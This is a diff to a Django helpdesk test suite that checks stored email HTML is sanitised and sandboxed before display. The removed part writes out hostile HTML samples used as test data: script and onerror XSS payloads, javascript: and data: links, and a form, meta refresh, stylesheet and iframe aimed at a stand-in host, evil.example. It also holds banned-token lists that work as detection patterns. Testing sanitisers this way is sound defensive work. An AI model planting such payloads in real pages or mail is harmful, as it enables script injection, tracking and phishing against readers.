@@ -2,18 +2,18 @@
 
 from __future__ import annotations
 
+import re
 import time
 
 import pytest
-from django.core.files.base import ContentFile
 from django.test import Client
 
-from helpdesk.models import Attachment, Inbox, Message
+from helpdesk.models import Inbox, Message
 from tests import factories
 from tests.core.conftest import Desk
+from tests.safe_html.payloads import FAMILIES
 
 pytestmark = pytest.mark.django_db
-PIXEL = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
 
 
 @pytest.fixture
@@ -41,7 +41,7 @@ def test_it_is_shown_under_a_policy_that_allows_nothing(desk: Desk, message: Mes
     assert '<p style="color:red">Hello</p>' in shown
     rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
     assert rules["default-src"] == "'none'"
-    assert rules["img-src"] == "data:"
+    assert rules["img-src"] == "http://testserver/mail-pictures/"
     assert "allow-scripts" not in rules["sandbox"]
     assert "allow-same-origin" not in rules["sandbox"]
     assert rules["frame-ancestors"] == "'self'"
@@ -53,33 +53,16 @@ def test_who_may_not_see_the_conversation_sees_no_original(desk: Desk, message: 
     assert Client().get(f"/messages/{message.pk}/original/").status_code == 302
 
 
-HOSTILE = {
-    "script": "<script>alert(1)</script>",
-    "handler": '<img src="cid:x" onerror="alert(1)">',
-    "javascript": '<a href="javascript:alert(1)">x</a>',
-    "form": '<form action="https://evil.example/"><input name="p"><button>Go</button></form>',
-    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    "base": '<base href="https://evil.example/"><a href="x">x</a>',
-    "svg": '<svg onload="alert(1)"><use href="https://evil.example/"/></svg>',
-    "remote picture": '<img src="https://evil.example/pixel.gif">',
-    "remote sheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
-    "style": "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
-    "overlay": '<div style="position:fixed;inset:0;z-index:9;background:url(https://evil.example)">x</div>',
-    "frame": '<iframe src="https://evil.example/"></iframe>',
-    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-}
-BANNED = ("alert", "<form", "<input", "<meta", "<base", "<svg", "<link", "<style", "<iframe")
-
-
-@pytest.mark.parametrize("name", HOSTILE)
+@pytest.mark.parametrize("name", FAMILIES)
 def test_nothing_of_a_hostile_mail_is_left(desk: Desk, message: Message, name: str) -> None:
-    code, shown, _policy = page(desk.agent, message, f"<p>Before</p>{HOSTILE[name]}<p>After</p>")
-    left = body(shown)
+    """Also of one that was kept before today's rules: the page trusts nothing that is stored."""
+    source = FAMILIES[name].replace("\x00", "").encode("utf-8", "replace").decode()
+    code, shown, _policy = page(desk.agent, message, f"<p>Before</p>{source}")
+    left = "".join(re.findall(r"<[^>]*>", body(shown)))
     assert code == 200
-    assert "Before" in left
-    assert "After" in left
-    for banned in (*BANNED, "position", "fixed", "url(", "onerror", "javascript:", 'src="http'):
-        assert banned not in left, name
+    assert "Before" in shown
+    for banned in ("__xss", "evil.example", "position", "url(", "javascript:", 'src="http'):
+        assert banned not in left
 
 
 def test_links_leave_in_a_tab_that_knows_nothing_of_us(desk: Desk, message: Message) -> None:
@@ -106,13 +89,3 @@ def test_what_is_built_to_hurt_is_refused_in_time(desk: Desk, message: Message, 
     assert code == 200
     assert "cannot be shown safely" in shown
     assert time.monotonic() - began < 3
-
-
-def test_its_own_pictures_are_part_of_the_page(desk: Desk, message: Message) -> None:
-    file = Attachment(
-        message=message, name="a.gif", content_type="image/gif", size=len(PIXEL), content_id="p1"
-    )
-    file.file.save("", ContentFile(PIXEL), save=True)
-    shown = body(page(desk.agent, message, '<img src="cid:p1"><img src="cid:gone">')[1])
-    assert shown.count('src="data:image/gif;base64,R0lGOD') == 1
-    assert "cid:" not in shown
